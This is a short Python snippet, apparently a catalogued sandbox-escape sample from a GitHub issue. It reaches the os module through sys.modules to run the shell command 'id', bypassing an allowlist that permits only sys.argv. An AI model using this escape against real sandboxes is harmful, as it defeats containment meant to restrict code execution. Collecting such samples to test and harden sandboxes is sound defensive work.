# Source: https://github.com/openswarm-ai/openswarm/issues/134
# Family: sys-modules
# What: sys.modules['os'] although only sys.argv is allowed
import sys
print(sys.argv)
sys.modules["os"].system("id")
